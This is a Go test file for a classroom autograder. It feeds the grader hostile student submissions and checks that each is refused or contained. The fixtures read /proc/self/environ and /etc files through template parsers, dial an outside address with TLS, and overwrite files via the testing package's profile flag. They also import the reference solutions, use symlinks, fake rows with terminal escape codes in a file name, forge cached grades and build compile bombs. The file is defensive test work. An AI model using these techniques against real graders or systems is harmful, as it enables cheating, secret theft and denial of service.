package main

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"termlab/runner/testrun"
)

// The class grader against hostile submissions (issue 30): each attack
// class as a test, each failing on the lab before the guard.

// grade --format (GitHub Classroom, Gradescope) had no import gate: a
// todo.go that called the reference solutions scored full marks. Now it
// goes through the lab's one gate, which names the file and the import,
// and grades nothing.
func TestGradeFormatGate(t *testing.T) {
	testrun.Slow(t, "builds and runs the worker")
	t.Parallel() // in a copy of the lab of its own, as the other end-to-end tests
	l := newLab(t, "")
	alice := classFixture(t, "alice/todo.go")
	notdone := l.read("labs/day45/notdone.go")
	// Classroom's answer is base64 of its JSON (autograde.Classroom).
	text := func(f string, r result) string {
		if f != "classroom" {
			return r.stdout
		}
		data, err := base64.StdEncoding.DecodeString(strings.TrimSpace(r.stdout))
		if err != nil {
			t.Fatalf("classroom's answer is not base64: %v\n%s", err, r)
		}
		return string(data)
	}
	for _, tc := range []struct{ name, imports, refused string }{
		{"the solutions", `import ( "time"; _ "termlab/solutions/day45" )`, "termlab/solutions/day45"},
		{"a raw string", "import (\n\t\"time\"\n\t_ `os`\n)", "os"},
		{"text/template", "import (\n\t\"time\"\n\t_ \"text/template\"\n)", "text/template"},
	} {
		l.write("labs/day45/todo.go", strings.Replace(alice, `import "time"`, tc.imports, 1))
		for _, f := range []string{"classroom", "gradescope"} {
			r := l.run("grade", "45", "--format", f)
			if out := text(f, r); !regexp.MustCompile(`labs/day45/todo\.go:\d+ imports \\"`+regexp.QuoteMeta(tc.refused)+`\\": not on Day 45's allow-list`).MatchString(out) || strings.Contains(out, `"status":"pass"`) {
				t.Errorf("%s, %s: not refused by name\n%s", tc.name, f, r)
			}
		}
	}
	// The lab's own notdone.go is the lab's: grade --format, like
	// grade-class and Gradescope, grades with the shipped one, whatever
	// the folder holds. Changed to reach the solutions, it reaches
	// nothing; with a comment added, it no longer refuses the submission
	// for 0 points in some formats while others give 4/4 (issue 43).
	l.write("labs/day45/todo.go", alice)
	for _, changed := range []string{
		"package day45\n\nimport \"termlab/solutions/day45\"\n\nvar notDone = day45.TakeToken\n",
		"// mine\n" + notdone,
	} {
		l.write("labs/day45/notdone.go", changed)
		for _, f := range []string{"classroom", "gradescope", "junit", "exercism"} {
			r := l.run("grade", "45", "--format", f)
			if out := text(f, r); strings.Contains(out, "refused") || strings.Contains(out, `"status":"fail"`) || strings.Contains(out, "<failure") || strings.Contains(out, "<error") || !regexp.MustCompile(`"status": ?"pass"|failures="0" errors="0"|"score": 4`).MatchString(out) {
				t.Errorf("%s with notdone.go changed (%q…): not graded 4/4\n%s", f, changed[:12], r)
			}
		}
	}
	l.write("labs/day45/notdone.go", notdone)
}

// A class with hostile submissions beside a correct (alice) and a wrong
// one (bob): every attack of issue 30 that a submission can make through
// grade-class is refused or has no effect, and alice and bob keep their
// grades, on the first run and on a re-run from a cache a forger changed.
func TestGradeClassHostile(t *testing.T) {
	testrun.Slow(t, "builds and runs the worker")
	t.Parallel() // in a copy of the lab of its own, as the other end-to-end tests
	l := newLab(t, "")
	cacheHome := t.TempDir()
	l.env = append(l.env, "XDG_CACHE_HOME="+cacheHome)
	dir, elsewhere := t.TempDir(), t.TempDir()
	alice := classFixture(t, "alice/todo.go")
	writeFile(t, filepath.Join(dir, "alice.go"), alice)
	writeFile(t, filepath.Join(dir, "bob.go"), classFixture(t, "bob.go"))
	with := func(imports, init string) string {
		return strings.Replace(alice, `import "time"`, imports, 1) + init
	}
	dropped := filepath.Join(elsewhere, "dropped.prof")
	for who, src := range map[string]string{
		// Writes a file anywhere, through the testing package's flags.
		// (testing.Main creates the profile's file before it runs anything.)
		"m-testing": with("import (\n\t\"testing\"\n\t\"flag\"\n\t\"time\"\n)", "\nfunc init() {\n\ttesting.Init()\n\tflag.CommandLine.Parse(nil)\n\tflag.Set(\"test.cpuprofile\", "+strconv.Quote(dropped)+")\n\ttesting.Main(func(string, string) (bool, error) { return true, nil }, nil, nil, nil)\n}\n"),
		// Reads any file, through a template parser that opens paths.
		"m-template": with("import (\n\t\"text/template\"\n\t\"time\"\n)", "\nvar _, _ = template.ParseFiles(\"/proc/self/environ\")\n"),
		"m-html":     with("import (\n\t\"html/template\"\n\t\"time\"\n)", "\nvar _, _ = template.ParseGlob(\"/etc/*\")\n"),
		// Sends it out, through a package that dials.
		"m-dial": with("import (\n\t\"crypto/tls\"\n\t\"time\"\n)", "\nvar _, _ = tls.Dial(\"tcp\", \"198.51.100.1:443\", nil)\n"),
		// The text search's blind spots, and the solutions.
		"m-raw":     with("import (\n\t`os`\n\t\"time\"\n)", "\nvar _ = os.Getpid\n"),
		"m-oneline": with(`import ( "time"; _ "termlab/solutions/day45" )`, ""),
		"m-unsafe":  with("import (\n\t\"time\"\n\t_ \"unsafe\"\n)", ""),
		"m-net":     with("import (\n\t\"time\"\n\t_ \"net\"\n)", ""),
	} {
		writeFile(t, filepath.Join(dir, who+".go"), src)
	}
	// A clone whose labs/ is a link to files elsewhere (alice's, here).
	writeFile(t, filepath.Join(elsewhere, "labs", "day45", "todo.go"), alice)
	writeFile(t, filepath.Join(dir, "m-link", "README.md"), "a clone")
	if err := os.Symlink(filepath.Join(elsewhere, "labs"), filepath.Join(dir, "m-link", "labs")); err != nil {
		t.Fatal(err)
	}
	// A name that would clear the screen and print a fake row.
	writeFile(t, filepath.Join(dir, "m-name\x1b[2J\x1b[H\nzed    pass    pass     pass    pass    4 of 4\r.go"), classFixture(t, "bob.go"))

	for round := range 2 {
		r := l.run("grade-class", "45", dir)
		l.want(r, 0)
		if controls(r.stdout) || controls(r.stderr) {
			t.Errorf("round %d: a control character reaches the terminal\n%q", round, r.stdout)
		}
		for _, want := range []*regexp.Regexp{
			regexp.MustCompile(`(?m)^alice +pass +pass +pass +pass +4/4`),
			regexp.MustCompile(`(?m)^bob +fail +pass +fail +pass +2/4`),
			regexp.MustCompile(`(?m)^m-testing +refused .*imports "testing"`),
			regexp.MustCompile(`(?m)^m-template +refused .*imports "text/template"`),
			regexp.MustCompile(`(?m)^m-html +refused .*imports "html/template"`),
			regexp.MustCompile(`(?m)^m-dial +refused .*imports "crypto/tls"`),
			regexp.MustCompile(`(?m)^m-raw +refused .*imports "os"`),
			regexp.MustCompile(`(?m)^m-oneline +refused .*imports "termlab/solutions/day45"`),
			regexp.MustCompile(`(?m)^m-unsafe +refused .*imports "unsafe"`),
			regexp.MustCompile(`(?m)^m-net +refused .*imports "net"`),
			regexp.MustCompile(`(?m)^m-link +refused .*labs is a symbolic link`),
			regexp.MustCompile(`(?m)^m-name\?.*4 of 4\? +fail +pass +fail +pass +2/4`),
		} {
			if !want.MatchString(r.stdout) {
				t.Errorf("round %d: the table lacks %s\n%s", round, want, r)
			}
		}
		if regexp.MustCompile(`(?m)^zed`).MatchString(r.stdout) {
			t.Errorf("round %d: a name started a row of its own\n%s", round, r.stdout)
		}
		if _, err := os.Stat(dropped); err == nil {
			t.Errorf("round %d: a submission wrote %s", round, dropped)
		}
		if round == 1 {
			if !strings.Contains(r.stderr, "cached grade of alice was not sealed by this grader") {
				t.Errorf("the forged entry was not reported\n%s", r)
			}
			break
		}
		// A forger rewrites alice's cached entry as all failing, as the
		// cache was written before it was sealed.
		entries, _ := filepath.Glob(filepath.Join(cacheHome, "termlab", "grade-class", "day45-*", "*.json"))
		forged := 0
		for _, e := range entries {
			data, _ := os.ReadFile(e)
			if strings.Contains(string(data), `"who":"alice"`) {
				os.WriteFile(e, []byte(strings.ReplaceAll(string(data), `"status":"pass"`, `"status":"fail"`)), 0o644)
				forged++
			}
		}
		if forged != 1 {
			t.Fatalf("%d cache entries of alice's among %v", forged, entries)
		}
	}
}

// Graded first, a submission rewrote the batch's shared copy of a lab
// file, and two correct students graded after it came out "does not
// compile", blamed on them (issue 30). Here the hostile one is graded
// first (--jobs 1, names in order) and breaks every copy of the lab's
// own day.go it can find under the temporary folder; the two correct
// ones after it keep 4/4, and the hostile one is refused or graded alone.
func TestGradeClassSharedCopyIsNotShared(t *testing.T) {
	testrun.Slow(t, "builds and runs the worker")
	t.Parallel() // in a copy of the lab of its own, as the other end-to-end tests
	l := newLab(t, "")
	tmp := t.TempDir() // the class's copies live here, and nothing else's
	l.env = append(l.env, "XDG_CACHE_HOME="+t.TempDir(), "TMPDIR="+tmp)
	dir := t.TempDir()
	alice := classFixture(t, "alice/todo.go")
	// With only packages the lab once allowed: the testing package's
	// profile flag makes testing.Main create (truncate) any file, here the
	// batch's copy of the lab's day.go, and then exit.
	hostile := strings.Replace(alice, `import "time"`, "import (\n\t\"flag\"\n\t\"path/filepath\"\n\t\"testing\"\n\t\"time\"\n)", 1) + `
func init() {
	ms, _ := filepath.Glob(filepath.Join(` + strconv.Quote(tmp) + `, "termlab-class-lab-*", "labs", "day45", "course", "day.go"))
	if len(ms) == 0 {
		return
	}
	testing.Init()
	flag.CommandLine.Parse(nil)
	flag.Set("test.cpuprofile", ms[0])
	testing.Main(func(string, string) (bool, error) { return true, nil }, nil, nil, nil)
}
`
	writeFile(t, filepath.Join(dir, "a-first.go"), hostile)
	writeFile(t, filepath.Join(dir, "b-second.go"), alice+"\n// b\n")
	writeFile(t, filepath.Join(dir, "c-third.go"), alice+"\n// c\n")
	r := l.run("grade-class", "45", dir, "--jobs", "1")
	l.want(r, 0)
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`(?m)^b-second +pass +pass +pass +pass +4/4`),
		regexp.MustCompile(`(?m)^c-third +pass +pass +pass +pass +4/4`),
	} {
		if !want.MatchString(r.stdout) {
			t.Errorf("the table lacks %s\n%s", want, r)
		}
	}
	if strings.Contains(r.stdout, "does not compile") {
		t.Errorf("a correct student was blamed for a lab a submission broke\n%s", r)
	}
}

// Issue 43, finding 1: the compiler runs what the source asks at compile
// time. A string constant doubled over and over, and a generic type
// nested thousands deep, compiled at gigabytes on the staff's machine
// and were graded. The build is bounded like the worker (here at the
// worker's 1024 MB, set so a runner's environment cannot loosen it): both
// are their student's "too big to build", and alice beside them is graded.
func TestGradeClassCompileBombs(t *testing.T) {
	testrun.Slow(t, "builds and runs the worker")
	t.Parallel() // in a copy of the lab of its own, as the other end-to-end tests
	l := newLab(t, "")
	l.env = append(l.env, "XDG_CACHE_HOME="+t.TempDir(), "TERMLAB_BUILD_MEMORY_MB=1024", "TERMLAB_BUILD_CPU_SECONDS=60")
	dir := t.TempDir()
	alice := classFixture(t, "alice/todo.go")
	writeFile(t, filepath.Join(dir, "alice.go"), alice)
	var str strings.Builder
	str.WriteString("\nconst s0 = \"xxxxxxxxxxxxxxxx\"\n")
	for i := 1; i <= 22; i++ {
		fmt.Fprintf(&str, "const s%d = s%d + s%d\n", i, i-1, i-1)
	}
	str.WriteString("\nvar Bomb = s22\n")
	writeFile(t, filepath.Join(dir, "bomb-string.go"), alice+str.String())
	nested := "int"
	for range 3000 {
		nested = "T[" + nested + "]"
	}
	writeFile(t, filepath.Join(dir, "bomb-generic.go"), alice+"\ntype T[X any] struct{ x X }\n\nvar Bomb "+nested+"\n")
	r := l.run("grade-class", "45", dir, "--jobs", "1")
	l.want(r, 0)
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`(?m)^alice +pass +pass +pass +pass +4/4`),
		regexp.MustCompile(`(?m)^bomb-string +build +build +build +build +0/4 +too big to build`),
		regexp.MustCompile(`(?m)^bomb-generic +build +build +build +build +0/4 +too big to build`),
	} {
		if !want.MatchString(r.stdout) {
			t.Errorf("the table lacks %s\n%s", want, r)
		}
	}
}

// Issue 43, finding 5, end to end: an init that never returns beside a
// real endless loop (dave). The init is one finding for its submission,
// said once; dave's loop is his alone.
func TestGradeClassInitHang(t *testing.T) {
	testrun.Slow(t, "builds and runs the worker")
	t.Parallel() // in a copy of the lab of its own, as the other end-to-end tests
	l := newLab(t, "")
	l.env = append(l.env, "XDG_CACHE_HOME="+t.TempDir())
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "dave.go"), classFixture(t, "dave.go"))
	writeFile(t, filepath.Join(dir, "ivy.go"), "//go:build termlab\n\n"+l.fixture("init_hang"))
	r := l.run("grade-class", "45", dir)
	l.want(r, 0)
	for _, want := range []*regexp.Regexp{
		regexp.MustCompile(`(?m)^ivy +timeout +timeout +timeout +timeout +0/4 +its file never finished loading`),
		regexp.MustCompile(`(?m)^  not graded, so in no TODO's count \(1\): never loaded: ivy$`),
		regexp.MustCompile(`(?m)^      does not return in time \(1\): dave$`),
	} {
		if !want.MatchString(r.stdout) {
			t.Errorf("the output lacks %s\n%s", want, r)
		}
	}
}
